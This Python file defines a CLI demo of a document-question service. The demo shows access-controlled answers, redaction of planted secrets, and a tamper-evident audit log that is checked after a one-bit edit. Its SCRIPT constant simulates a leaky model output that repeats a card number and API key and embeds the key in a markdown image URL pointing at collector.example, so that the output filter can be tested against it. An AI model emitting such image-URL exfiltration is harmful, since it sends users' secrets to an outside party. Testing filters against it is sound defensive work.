"""`clearance demo`: what this is about, on the running instance, in a minute. One answer is a script, and says so."""

import os
import tempfile
import time
from collections.abc import Callable
from contextlib import ExitStack
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import typer
import yaml
from rich.panel import Panel
from rich.table import Table
from rich.text import Text

from app.cli.connection import HOME, ConnectionOptions, Home, find_url, person_key
from app.cli.console import out
from app.cli.demo_output import StreamWindow, answered, aside, bare, everything, model_said, show_report, title
from app.client.api import Client, path
from app.client.errors import UserError
from app.evidence.merkle import Head, decode
from app.evidence.verify import verify
from app.guardrail.answer_filter import AnswerFilter
from app.guardrail.checks import default_checks
from app.local.sample_people import FOLDER, PEOPLE_FILE, read_people

QUESTIONS = FOLDER / "questions.yaml"
AUDITOR = "oskar"
# The sequencer puts records in order every half second; a busy machine takes longer.
ORDER_SECONDS = 20.0
# What the worst model would say: it repeats the secrets, and tries to send them away in the address of a picture.
SCRIPT = (
    "The card is {card}, so here it is once more in bold: **{card}** [1].\n"
    "The API key is {key} [1].\n"
    "![chart](https://collector.example/?q={key})\n"
    "<img src=https://collector.example/?q=forecast>\n"
)
PIECE = 4
EDITED = b'"kind\\":\\"answer.opened'


class CannotDemo(UserError):
    """There is no sample company to ask."""


def register(app: typer.Typer) -> None:
    """Add the command of this file."""
    app.command()(demo)


def demo(*, home: Home = HOME) -> None:
    """One question, two people, two answers; secrets redacted; all of it in the audit log, proved to be unchanged."""
    wanted = ConnectionOptions(None, None, None, home)
    people = read_people(home / PEOPLE_FILE)
    if not people:
        raise CannotDemo("the demo needs the sample company: 'clearance run' in another terminal loads it")
    with ExitStack() as stack:

        def client(name: str) -> Client:
            url = find_url(wanted, os.environ)
            return stack.enter_context(Client(url, person_key(wanted, os.environ, name)))

        show = _Demo(client, people, yaml.safe_load(QUESTIONS.read_text(encoding="utf-8"))["demo"])
        broken = show.play()
    if broken:
        out.print(Text("\nNot as promised: " + "; ".join(broken), "bold red"))
        raise typer.Exit(1)


@dataclass
class _Demo:
    """The acts of the demo. `broken` collects what is not as promised."""

    client: Callable[[str], Client]
    people: dict[str, dict[str, Any]]
    entries: list[dict[str, Any]]
    broken: list[str] = field(default_factory=list)
    trails: dict[str, str] = field(default_factory=dict)  # trail id to asker

    def play(self) -> list[str]:
        begin = time.monotonic()
        self.two_answers()
        self.redaction()
        self.audit()
        aside(f"\n{time.monotonic() - begin:.0f} s, asked of the running service just now, but for the script.")
        return self.broken

    def two_answers(self) -> None:
        """The same question, asked by the first two people who ask the same."""
        question = self.entries[0]["question"]
        pair = [entry for entry in self.entries if entry["question"] == question]
        title("1  One question, two people, two answers")
        out.print(Text.assemble("“", (question, "bold"), "”\n"))
        for entry in pair:
            answer = self._quoted(entry)
            out.print(Panel(answered(answer), title=self._who(entry["asker"]), title_align="left", padding=(0, 1)))
            others = [other for other in pair if other is not entry]
            self._check_answer(entry, answer, others)

    def redaction(self) -> None:
        """A page with a card number and an API key in it, asked for by somebody who may read it."""
        entry = next(e for e in self.entries if e.get("redacted"))
        title("2  Secrets that stand in a document do not come out of it")
        out.print(Text.assemble("“", (entry["question"], "bold"), "”\n"))
        who = self._who(entry["asker"])
        answer = self._quoted(entry)
        self._check_original(entry, answer)
        out.print(Panel(answered(answer), title=who + Text(", quoted", "dim"), title_align="left", padding=(0, 1)))
        self._check_secrets(entry, answer, "the quotes")
        if not answer["redactions"]:
            self._breaks("nothing was redacted in the quotes")
        self._scripted(entry)
        quoted, written = self._streamed(entry, "quote"), self._streamed(entry, "generate")
        aside(model_said(quoted, written))

    def _scripted(self, entry: dict[str, Any]) -> None:
        """The worst case, which no model can be relied on to show: one that gives away all it was shown."""
        out.print(Text("A model that gives everything away would stream this (a script, in pieces of"))
        out.print(Text(f"{PIECE} characters). The gate that every answer passes lets out:\n"))
        card, key = entry["redacted"]
        script = SCRIPT.format(card=card, key=key)
        window = StreamWindow()
        passed = AnswerFilter(default_checks(), sources=1)
        for at in range(0, len(script), PIECE):
            window.show(passed.feed(script[at : at + PIECE]))
        window.show(passed.flush())
        window.close()
        self._check_secrets(entry, {"answer": window.text}, "the scripted stream")
        if window.text.count("[redacted: ") < len(entry["redacted"]) or "![" in window.text:
            self._breaks("the gate let the scripted stream through")

    def _streamed(self, entry: dict[str, Any], mode: str) -> dict[str, Any]:
        """Ask the running service for a stream, and look through all of it."""
        text, answer = "", {}
        for name, data in self.client(entry["asker"]).ask_streamed({"question": entry["question"], "mode": mode}):
            if name == "delta":
                text += data["text"]
            elif name == "done":
                answer = {**data, "answer": text}
        self.trails[answer["trail"]] = entry["asker"]
        self._check_secrets(entry, answer, f"the streamed answer ({mode})")
        return answer

    def audit(self) -> None:
        """What the log holds of these questions, and that it cannot be altered unseen."""
        title("3  Afterwards: who asked what, and what was it shown")
        auditor = self.client(AUDITOR)
        events = self._events(auditor)
        for trail, asker in self.trails.items():
            self._show_trail(asker, events.get((trail, "answer.opened")), events.get((trail, "answer.closed")))
        aside("Oskar may read the log, not the documents: it names passages by id and holds none of their text.")
        title("4  And proof that nobody changed the log")
        with tempfile.TemporaryDirectory() as folder:
            self._verify(auditor, Path(folder) / "audit.jsonl")

    def _verify(self, auditor: Client, file: Path) -> None:
        kept = auditor.get("/audit/head")
        head = Head(kept["size"], decode(kept["root"]))
        file.write_bytes(b"".join(auditor.lines("/audit/export", format="jsonl")))
        out.print(Text.assemble("Head kept elsewhere: ", (str(head), "cyan")))
        report = verify(file, head=head)
        show_report("The export", report)
        if not report.ok:
            self._breaks("the export does not verify")
        content = bytearray(file.read_bytes())
        place = content.index(EDITED) + len(EDITED) - 1
        content[place] ^= 1
        file.write_bytes(content)
        aside(f"One bit of byte {place:,} of {len(content):,} is turned over …")
        edited = verify(file, head=head)
        show_report("The edited export", edited)
        if edited.ok:
            self._breaks("an edited byte was not found")

    def _quoted(self, entry: dict[str, Any]) -> dict[str, Any]:
        body = {"question": entry["question"], "mode": "quote"}
        answer: dict[str, Any] = self.client(entry["asker"]).post("/ask", body)
        self.trails[answer["trail"]] = entry["asker"]
        return answer

    def _check_answer(self, entry: dict[str, Any], answer: dict[str, Any], others: list[dict[str, Any]]) -> None:
        shown = everything(answer)
        if entry["expected"] not in shown:
            self._breaks(f"{entry['asker']} does not get “{entry['expected']}”")
        for other in others:
            if entry["asker"] in other["hidden_from"] and (other["expected"] in shown or other["source"] in shown):
                self._breaks(f"{entry['asker']} sees what {other['source']} says")

    def _check_original(self, entry: dict[str, Any], answer: dict[str, Any]) -> None:
        """Show that there is something to redact: the file itself holds the secrets."""
        place = entry["source"].split("/", 1)
        found = [s for s in answer["sources"] if [s["collection"], s["path"]] == place]
        if not found:
            self._breaks(f"{entry['source']} is not among the sources")
            return
        pieces = self.client(entry["asker"]).lines(path("documents", found[0]["document"], "original"))
        original = b"".join(pieces).decode(errors="replace")
        held = [secret for secret in entry["redacted"] if secret in original]
        if len(held) < len(entry["redacted"]):
            self._breaks("the original does not hold the planted secrets")
        aside(
            f"The file {entry['source']} holds {len(held)} planted secrets; the original needs the right to download."
        )

    def _check_secrets(self, entry: dict[str, Any], answer: dict[str, Any], where: str) -> None:
        if any(bare(secret) in bare(everything(answer)) for secret in entry["redacted"]):
            self._breaks(f"a secret came out in {where}")

    def _events(self, auditor: Client) -> dict[tuple[str, str], dict[str, Any]]:
        """The records of all trails, once they are in order."""
        deadline = time.monotonic() + ORDER_SECONDS
        while True:
            found = auditor.get("/audit/events", newest_first=True, limit=200)["events"]
            events = {
                (e["record"]["trail"], e["record"]["kind"]): e
                for e in found
                if e["record"] and e["record"]["trail"] in self.trails
            }
            if len(events) == 2 * len(self.trails) or time.monotonic() > deadline:
                return events
            time.sleep(0.5)

    def _show_trail(self, asker: str, opened: dict[str, Any] | None, closed: dict[str, Any] | None) -> None:
        if opened is None or closed is None:
            self._breaks(f"a question of {asker} is not in the log")
            return
        record, end = opened["record"], closed["record"]
        if record["actor"]["name"] != asker:
            self._breaks(f"a question of {asker} is recorded as one of {record['actor']['name']}")
        redacted = ", ".join(f"{kind} {n}×" for kind, n in end["redactions"].items()) or "nothing"
        question = opened["opened"].get("question", {}).get("text")
        if not question:
            self._breaks(f"the auditor cannot open the question of {asker}")
        facts = (
            f"{record['mode']} · {len(record['passages'])} passages up to {record['label']} · redacted: {redacted}\n"
            f"recorded before the answer began, closed as no. {closed['seq']}: {end['outcome']}"
        )
        line = Table.grid(padding=(0, 1))
        line.add_row(Text(f"{opened['seq']:>4}", "cyan"), Text(f"{asker:<5}", "bold"),
                     Text.assemble(f"“{question}”\n", (facts, "dim")))  # fmt: skip
        out.print(line)

    def _who(self, name: str) -> Text:
        person = self.people[name]
        return Text.assemble((person["display_name"], "bold cyan"), f", {person['title']}")

    def _breaks(self, promise: str) -> None:
        self.broken.append(promise)
        out.print(Text(f"✗ {promise}", "bold red"))
